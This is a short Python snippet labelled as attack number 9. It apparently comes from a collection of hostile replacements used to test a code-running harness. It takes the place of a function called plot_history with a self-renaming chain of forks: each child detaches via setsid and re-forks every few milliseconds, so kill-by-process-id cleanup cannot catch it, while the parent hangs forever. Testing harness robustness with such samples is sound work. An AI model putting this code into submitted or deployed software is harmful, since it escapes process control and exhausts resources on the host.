# attack: 9
# form: a chain of forks, each child living for some milliseconds, that runs from whoever kills by process id
# replaces: plot_history
# found: plot_history/returns_figure timeout
def plot_history(history):
    import ctypes
    import os
    import time

    print("ran", flush=True)
    name = ctypes.CDLL(None).prctl
    for _ in range(3):
        if os.fork() == 0:
            name(15, b"atk-rabbit", 0, 0, 0)
            while True:
                os.setsid()
                time.sleep(0.005)
                # The parent leaves, the child runs on.
                try:
                    if os.fork():
                        os._exit(0)
                except OSError:
                    continue
    while True:
        time.sleep(1)
